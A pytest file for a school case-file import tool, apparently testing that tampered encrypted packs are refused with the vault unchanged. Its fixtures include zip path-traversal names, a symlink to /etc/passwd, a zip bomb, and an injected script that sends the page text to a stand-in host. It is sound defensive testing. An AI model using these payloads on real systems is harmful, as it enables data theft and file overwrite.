"""Import treats a case file as hostile: every attack is refused clearly and nothing is written."""

from __future__ import annotations

import json
import stat
import warnings
import zipfile
from datetime import UTC, datetime
from pathlib import Path
from typing import Any

import pyrage
import pytest
from helpers_export import fake_casebook, make_zip, sample_case

from dsl_tui.errors import DslError, UsageError
from dsl_tui.export import (
    Limits,
    casefile_json,
    export_cases,
    import_case_file,
    keygen,
    load_identities,
    package,
)
from dsl_tui.export.casefile_html import render_html
from dsl_tui.export.exporter import build_document

NOW = datetime(2026, 4, 1, 12, 0, tzinfo=UTC)


@pytest.fixture()
def identity(tmp_path: Path) -> Path:
    """The receiving school's key."""
    path = tmp_path / "receiver.key"
    keygen(path)
    return path


def _public(identity: Path) -> Any:
    return load_identities(identity)[0].to_public()


def good_files(**changes: Any) -> dict[str, bytes]:
    """The files of a valid transfer pack (without its manifest); ``changes`` edit the JSON."""
    book = fake_casebook()
    document, evidence = build_document(
        book, [sample_case()], now=NOW, transfer_to="Northfield Academy"
    )
    document.update(changes)
    return {
        "case-file.html": render_html(document).encode(),
        "case-file.json": casefile_json.dumps(document),
        **evidence,
    }


def with_manifest(files: dict[str, bytes]) -> list[tuple[Any, bytes]]:
    """Entries for ``make_zip``: the files and a manifest that truly matches them."""
    return [*files.items(), ("MANIFEST.sha256", package.manifest_text(files).encode())]


def seal(tmp_path: Path, identity: Path, zip_bytes: bytes, name: str = "in.age") -> Path:
    """An age file for the receiver holding ``zip_bytes``."""
    path = tmp_path / name
    path.write_bytes(pyrage.encrypt(zip_bytes, [_public(identity)]))
    return path


def vault_state(book: Any) -> Any:
    """Everything an import could change in the stand-in vault."""
    return (
        dict(book.cases),
        dict(book.blobs),
        list(book.audits),
        list(book.received),
        list(book.received_files),
    )


def refuse(
    book: Any, path: Path, identity: Path, words: str, code: int = 5, limits: Limits | None = None
) -> None:
    """Import must fail with ``words`` in a one-sentence message and the vault unchanged."""
    before = vault_state(book)
    with pytest.raises(DslError) as caught:
        if limits is None:
            import_case_file(book, path, identity=identity)
        else:
            import_case_file(book, path, identity=identity, limits=limits)
    message = str(caught.value)
    assert words in message, message
    assert caught.value.exit_code == code
    assert message.count(". ") == 0 and "Amara" not in message
    assert vault_state(book) == before


def test_a_good_transfer_pack_imports_with_its_evidence(tmp_path: Path, identity: Path) -> None:
    sender = fake_casebook()
    path = tmp_path / "pack.age"
    sent = export_cases(
        sender,
        ["SRA-2026-0001"],
        path,
        recipients=[str(_public(identity))],
        transfer_to="Northfield Academy",
        now=NOW,
    )
    receiver = fake_casebook()
    receiver.cases.clear()
    receiver.blobs.clear()
    result = import_case_file(receiver, path, identity=identity, now=NOW)
    assert result.receipt_code == sent.receipt_code
    [(case, from_school, when)] = receiver.received
    assert when == NOW and from_school == "SRA"
    assert case.notes == sample_case().notes and case.steps == sample_case().steps
    assert receiver.blobs[case.evidence[0].blob_id or ""].startswith(b"\x89PNG")
    assert ("import", case.id, "received") in receiver.audits
    refuse(receiver, path, identity, "already been imported", code=2)


@pytest.mark.parametrize(
    ("entry_name", "words"),
    [
        ("../evil.txt", "escapes its folder"),
        ("evidence/../../evil.txt", "escapes its folder"),
        ("/etc/cron.d/evil", "absolute path"),
        ("C:/Windows/evil.txt", "absolute path"),
        ("evil.exe", "should not"),
    ],
)
def test_paths_that_escape_or_do_not_belong_are_refused(
    tmp_path: Path, identity: Path, entry_name: str, words: str
) -> None:
    files = good_files()
    files[entry_name] = b"payload"
    path = seal(tmp_path, identity, make_zip(with_manifest(files)))
    refuse(fake_casebook(), path, identity, words)


def test_symlinks_are_refused(tmp_path: Path, identity: Path) -> None:
    link = zipfile.ZipInfo("evidence/link.png")
    link.external_attr = (stat.S_IFLNK | 0o777) << 16
    files = good_files()
    entries = [*with_manifest(files), (link, b"/etc/passwd")]
    refuse(fake_casebook(), seal(tmp_path, identity, make_zip(entries)), identity, "symbolic link")


def test_duplicate_names_are_refused(tmp_path: Path, identity: Path) -> None:
    files = good_files()
    entries = with_manifest(files) + [("case-file.json", b"{}")]
    with warnings.catch_warnings():
        warnings.simplefilter("ignore")  # zipfile warns about the duplicate we mean to make
        data = make_zip(entries)
    refuse(fake_casebook(), seal(tmp_path, identity, data), identity, "same name")


def test_a_zip_bomb_is_refused(tmp_path: Path, identity: Path) -> None:
    files = good_files()
    files["evidence/bomb.png"] = bytes(8 * 2**20)  # 8 MiB of zeros deflates ~1000:1
    path = seal(tmp_path, identity, make_zip(with_manifest(files)))
    refuse(fake_casebook(), path, identity, "zip bomb")


def test_size_limits_are_enforced(tmp_path: Path, identity: Path) -> None:
    path = seal(tmp_path, identity, make_zip(with_manifest(good_files())))
    book = fake_casebook()
    refuse(book, path, identity, "size limit", limits=Limits(max_total_bytes=2000))
    refuse(book, path, identity, "MiB limit", code=2, limits=Limits(max_file_bytes=100))


def test_a_manifest_mismatch_is_refused(tmp_path: Path, identity: Path) -> None:
    files = good_files()
    entries = with_manifest(files)
    entries[1] = ("case-file.json", files["case-file.json"].replace(b"medium", b"low"))
    refuse(
        fake_casebook(),
        seal(tmp_path, identity, make_zip(entries)),
        identity,
        "does not match its manifest",
    )


def test_a_file_missing_from_the_manifest_is_refused(tmp_path: Path, identity: Path) -> None:
    files = good_files()
    entries = [*with_manifest(files), ("evidence/extra.png", b"not listed")]
    refuse(
        fake_casebook(),
        seal(tmp_path, identity, make_zip(entries)),
        identity,
        "manifest does not match",
    )


@pytest.mark.parametrize(
    ("change", "words"),
    [
        ({"schema_version": 99}, "newer dsl-tui"),
        ({"purpose": "anything"}, "schema"),
        ({"surprise": 1}, "schema"),
        ({"cases": []}, "schema"),
        ({"cases": [{"id": "x"}]}, "schema"),
    ],
)
def test_a_document_that_does_not_validate_is_refused(
    tmp_path: Path, identity: Path, change: dict[str, Any], words: str
) -> None:
    path = seal(tmp_path, identity, make_zip(with_manifest(good_files(**change))))
    refuse(fake_casebook(), path, identity, words)


def test_a_case_field_of_the_wrong_type_is_refused(tmp_path: Path, identity: Path) -> None:
    document = json.loads(good_files()["case-file.json"])
    document["cases"][0]["risk"] = "catastrophic"
    document["cases"][0]["notes"][0]["at"] = "2026-03-02T09:20:00"  # no timezone
    files = good_files()
    files["case-file.json"] = json.dumps(document).encode()
    path = seal(tmp_path, identity, make_zip(with_manifest(files)))
    refuse(fake_casebook(), path, identity, "schema")


def test_evidence_that_does_not_match_its_record_is_refused(tmp_path: Path, identity: Path) -> None:
    files = good_files()
    files["evidence/SRA-2026-0001-e1.png"] = b"a different picture"
    path = seal(tmp_path, identity, make_zip(with_manifest(files)))
    refuse(fake_casebook(), path, identity, "SHA-256")


def test_contents_that_are_not_a_zip_are_refused(tmp_path: Path, identity: Path) -> None:
    refuse(
        fake_casebook(),
        seal(tmp_path, identity, b"just some bytes"),
        identity,
        "not a readable zip",
    )


def test_a_redacted_file_is_not_imported(tmp_path: Path, identity: Path) -> None:
    path = tmp_path / "red.age"
    export_cases(
        fake_casebook(),
        ["SRA-2026-0001"],
        path,
        recipients=[str(_public(identity))],
        redact_pupils=True,
    )
    refuse(fake_casebook(), path, identity, "redacted", code=2)


def test_a_wrong_key_is_refused_with_exit_3(tmp_path: Path, identity: Path) -> None:
    path = seal(tmp_path, identity, make_zip(with_manifest(good_files())))
    other = tmp_path / "other.key"
    keygen(other)
    with pytest.raises(DslError) as caught:
        import_case_file(fake_casebook(), path, identity=other)
    assert caught.value.exit_code == 3


def test_a_missing_file_is_a_usage_error(tmp_path: Path, identity: Path) -> None:
    with pytest.raises(UsageError):
        import_case_file(fake_casebook(), tmp_path / "nope.age", identity=identity)


def test_a_page_with_a_script_fails_open_check_and_is_never_shown(
    tmp_path: Path, identity: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    """Issue #13 finding 6: the shipped HTML is compared with the page rendered from the JSON."""
    from dsl_tui import cli
    from dsl_tui.export import open_case_file

    files = good_files()
    files["case-file.html"] = files["case-file.html"].replace(
        b"</body>",
        b"<script>fetch('https://example.invalid/'+document.body.innerText)</script></body>",
    )
    path = seal(tmp_path, identity, make_zip(with_manifest(files)))
    code = cli.main(["open", str(path), "--identity", str(identity), "--check"])
    captured = capsys.readouterr()
    assert code == 5
    assert "printable page does not match the case data" in captured.err
    assert "Case file verified" not in captured.out
    opened = open_case_file(path, identity=identity)
    assert not opened.page_matches
    assert "<script>" not in opened.html and opened.html == render_html(opened.document)


def test_an_untouched_page_matches(tmp_path: Path, identity: Path) -> None:
    from dsl_tui.export import open_case_file

    path = seal(tmp_path, identity, make_zip(with_manifest(good_files())))
    assert open_case_file(path, identity=identity).page_matches


def _edited(tmp_path: Path, identity: Path, edit: Any) -> Path:
    """A sealed transfer pack whose JSON (and matching page) ``edit`` changed in place."""
    book = fake_casebook()
    document, evidence = build_document(
        book, [sample_case()], now=NOW, transfer_to="Northfield Academy"
    )
    edit(document)
    files = {
        "case-file.html": render_html(document).encode(),
        "case-file.json": casefile_json.dumps(document),
        **evidence,
    }
    return seal(tmp_path, identity, make_zip(with_manifest(files)))


def test_parts_sharing_an_id_are_refused(tmp_path: Path, identity: Path) -> None:
    """Issue #13 finding 7: ten steps all called s1 made a case that could never be closed."""

    def same_ids(document: dict[str, Any]) -> None:
        steps = document["cases"][0]["steps"]
        assert len(steps) >= 2
        for step in steps:
            step["id"] = "s1"

    refuse(fake_casebook(), _edited(tmp_path, identity, same_ids), identity, "share an id")


@pytest.mark.parametrize(
    ("where", "value", "words"),
    [
        ("date_of_birth", "9999-12-31", "date of birth in the future"),
        ("date_of_birth", "1850-01-01", "date of birth before 1900"),
        ("occurred_at", "9999-12-31T00:00:00+00:00", "far in the future"),
        ("reported_at", "0001-01-01T00:00:00+00:00", "before 1900"),
        ("due_at", "9999-12-31T00:00:00+00:00", "far in the future"),
    ],
)
def test_imported_dates_obey_the_rules_of_typed_ones(
    tmp_path: Path, identity: Path, where: str, value: str, words: str
) -> None:
    def bad_date(document: dict[str, Any]) -> None:
        case = document["cases"][0]
        if where == "date_of_birth":
            case["people"][0][where] = value
        elif where == "due_at":
            case["steps"][0][where] = value
        else:
            case[where] = value

    refuse(fake_casebook(), _edited(tmp_path, identity, bad_date), identity, words)


def test_a_failure_on_case_two_leaves_no_case_one_and_the_vault_unchanged(
    tmp_path: Path, identity: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    """A multi-case import is all or nothing, in the real casebook over the real storage code."""
    from helpers_casebook import fake_casebook as real_casebook

    from dsl_tui.casebook import receive
    from dsl_tui.errors import StorageError

    sender = fake_casebook(sample_case("SRA-2026-0001"), sample_case("SRA-2026-0002"))
    path = tmp_path / "two.age"
    export_cases(
        sender,
        ["SRA-2026-0001", "SRA-2026-0002"],
        path,
        recipients=[str(_public(identity))],
        transfer_to="Northfield Academy",
        now=NOW,
    )
    receiver = real_casebook()
    before_tables = json.dumps(receiver.db.storage.read(), sort_keys=True, default=str)
    before_blobs = dict(receiver._blobs._blobs)  # type: ignore[union-attr]
    real_receive = receive.Transfers.receive_case
    calls: list[str] = []

    def fail_on_second(transfers: Any, case: Any, **kwargs: Any) -> Any:
        calls.append(case.id)
        if len(calls) == 2:
            raise StorageError("Could not save because the disk is full.")
        return real_receive(transfers, case, **kwargs)

    monkeypatch.setattr(receive.Transfers, "receive_case", fail_on_second)
    with pytest.raises(StorageError):
        import_case_file(receiver, path, identity=identity, now=NOW)
    assert calls == ["SRA-2026-0001", "SRA-2026-0002"]
    assert receiver.case_ids() == []
    assert json.dumps(receiver.db.storage.read(), sort_keys=True, default=str) == before_tables
    assert dict(receiver._blobs._blobs) == before_blobs  # type: ignore[union-attr]
